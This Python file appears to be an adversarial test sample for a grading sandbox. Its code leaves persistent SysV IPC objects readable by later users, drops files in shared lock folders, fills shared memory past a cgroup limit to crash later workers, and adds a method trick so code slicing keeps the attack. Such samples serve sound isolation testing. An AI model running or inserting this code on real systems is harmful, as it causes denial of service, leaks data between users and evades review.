# Issue 9, classes 1 and 2: SysV shared memory, a message queue and a semaphore made to
# outlive grading (readable by the next student without an IPC namespace), files left in the
# shared lock folders, and shared memory filled up to the memory limit, so a worker that
# reused this cgroup (or this IPC namespace) would start full (18 x 128 MiB: past the 2.25 GiB
# cgroup limit) and die in the benchmark.
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_KEY = int("__TOKEN__"[:7], 16)
_SEGMENT = 128 << 20


def _fill(first, count):
    for i in range(first, first + count):
        ident = _libc.shmget(_KEY + i, _SEGMENT, 0o1000 | 0o666)  # IPC_CREAT
        if ident < 0:
            return
        address = _libc.shmat(ident, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            return
        ctypes.memset(address, 1, _SEGMENT)
        _libc.shmdt(address)


_queue = _libc.msgget(_KEY, 0o1000 | 0o666)
_semaphore = _libc.semget(_KEY, 1, 0o1000 | 0o666)


def _leave_files():
    for folder in ("/run/lock", "/var/lock", "/dev/shm", "/var/tmp", "/tmp"):
        try:
            with open(os.path.join(folder, "sandbox-attack-__TOKEN__"), "wb") as out:
                out.write(b"x" * (1 << 20))
        except OSError:
            pass


_files = _leave_files()
_fill0 = _fill(0, 2)
_fill2 = _fill(2, 2)
_fill4 = _fill(4, 2)
_fill6 = _fill(6, 2)
_fill8 = _fill(8, 2)
_fill10 = _fill(10, 2)
_fill12 = _fill(12, 2)
_fill14 = _fill(14, 2)
_fill16 = _fill(16, 2)


class Dense(Dense):
    def _attack(self):  # reads every name above, so statement slicing keeps (and runs) them
        return (_queue, _semaphore, _files, _fill0, _fill2, _fill4, _fill6, _fill8, _fill10, _fill12, _fill14, _fill16)
